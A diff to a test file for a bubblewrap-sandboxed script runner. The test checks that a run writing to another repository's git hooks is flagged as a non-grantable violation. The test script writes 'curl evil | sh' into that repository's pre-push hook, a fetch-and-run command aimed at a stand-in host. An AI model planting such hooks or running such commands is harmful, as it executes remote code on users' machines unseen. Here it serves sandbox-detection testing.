@@ -154,8 +154,18 @@ describe('git folders a run makes under a write grant (real bwrap runs)', () => 
 
   it('leave the repositories the user had alone, hooks and all, however deep', async () => {
     const { engine, id, workspace } = await repoMaker(
-      ['cd "$WORKSPACE/a/b/c/d/e/mine"', 'echo 2 >> a.txt', 'git commit -qam two', 'exit 0'].join('\n'),
+      [
+        'cd "$WORKSPACE/a/b/c/d/e/mine"',
+        'echo 2 >> a.txt',
+        'git commit -qam two',
+        // Deeper than the guards reach, the run can change its hooks: said, since it cannot be undone.
+        'cd "$WORKSPACE/a/b/c/d/e/theirs" && echo "curl evil | sh" > .git/hooks/pre-push',
+        'exit 0',
+      ].join('\n'),
     );
+    const theirs = path.join(workspace, 'a/b/c/d/e/theirs');
+    fs.mkdirSync(theirs, { recursive: true });
+    git(theirs, 'init', '-q');
     const mine = path.join(workspace, 'a/b/c/d/e/mine');
     writeTree(mine, { 'a.txt': '1\n' });
     git(mine, 'init', '-q');
@@ -168,7 +178,11 @@ describe('git folders a run makes under a write grant (real bwrap runs)', () => 
     try {
       const result = await engine.execution.start({ id, task: 'go' }).done;
       expect(result.status).toBe('success');
-      expect(result.violations).toEqual([]);
+      expect(result.violations.map((v) => [v.target, v.grantable])).toEqual([
+        [path.join(theirs, '.git'), false],
+      ]);
+      expect(result.violations[0].message).toMatch(/changed hooks\/pre-push in the git folder/);
+      expect(fs.existsSync(path.join(theirs, '.git/hooks/pre-push'))).toBe(true);
       expect(fs.existsSync(path.join(mine, '.git/hooks/post-commit'))).toBe(true);
       expect(git(mine, 'log', '--format=%s').stdout.trim().split('\n')).toEqual(['two', 'one']);
     } finally {
